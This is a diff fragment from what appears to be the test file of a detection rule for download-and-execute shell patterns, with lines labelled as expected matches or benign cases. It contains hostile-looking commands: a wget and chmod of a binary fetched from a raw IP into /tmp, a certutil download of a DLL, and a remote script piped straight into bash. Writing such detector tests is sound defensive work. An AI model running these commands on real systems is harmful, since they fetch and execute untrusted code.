@@ -26,3 +26,9 @@ wget -q http://198.51.100.7/jsextension -O /tmp/jsextension && chmod +x /tmp/jse
 certutil.exe -urlcache -f http://198.51.100.7/sdd.dll sdd.dll
 # ok: generic-download-pipe-shell
 curl -fsSL -o kubectl "https://dl.k8s.io/release/${V}/bin/linux/amd64/kubectl" && chmod +x kubectl && sudo mv kubectl /usr/local/bin/
+# ok: generic-download-pipe-shell
+curl -s "$API/items" | python3 -m json.tool
+# ok: generic-download-pipe-shell
+curl -s "$API/items" | node -e 'let d="";process.stdin.on("data",c=>d+=c)'
+# ruleid: generic-download-pipe-shell
+curl -s "$SETUP_URL" | bash -e
